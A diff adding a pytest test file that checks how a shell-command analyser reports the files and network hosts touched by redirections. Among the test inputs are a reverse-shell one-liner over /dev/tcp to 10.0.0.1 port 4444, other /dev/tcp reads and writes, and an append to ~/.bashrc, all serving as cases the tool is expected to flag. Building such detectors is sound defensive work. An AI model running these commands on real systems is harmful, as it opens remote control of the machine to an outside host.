@@ -1,0 +1,30 @@
+"""Redirections: what a command reads and writes by them."""
+
+from __future__ import annotations
+
+import pytest
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    (': > a.txt', [': W:./a.txt']),
+    (': 1<> a.txt', [': W:./a.txt']),
+    ('echo x >| a.txt', ['echo W:./a.txt']),
+    ('echo x &> a.txt', ['echo W:./a.txt']),
+    ('echo x &>> a.txt', ['echo W:./a.txt']),
+    ('echo x 2>&1 >> a.txt', ['echo W:./a.txt']),
+    ('echo x > /dev/null 2>&1', ['echo']),
+    ('echo x >&2', ['echo']),
+    ('cat < a.txt > b.txt', ['cat R:./a.txt W:./b.txt']),
+    ('> a.txt', ['- W:./a.txt']),
+    ('>> ~/.bashrc', ['- W:~/.bashrc']),
+    ('echo x > "$F"', ['echo W:?$F']),
+    ('cat <<< x > b.txt', ['cat W:./b.txt']),
+    ('cat 0< a.txt', ['cat R:./a.txt']),
+    ('echo x > /dev/tcp/10.0.0.1/80', ['echo H:10.0.0.1']),
+    ('cat < /dev/tcp/10.0.0.1/80', ['cat H:10.0.0.1']),
+    ('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', ['bash H:10.0.0.1']),
+    ('for i in a; do echo; done > out.txt', ['echo', '- W:./out.txt']),
+    ('echo "a > b"', ['echo']),
+])
+def test_redirections(brief, command, expected):
+    assert brief(command) == expected
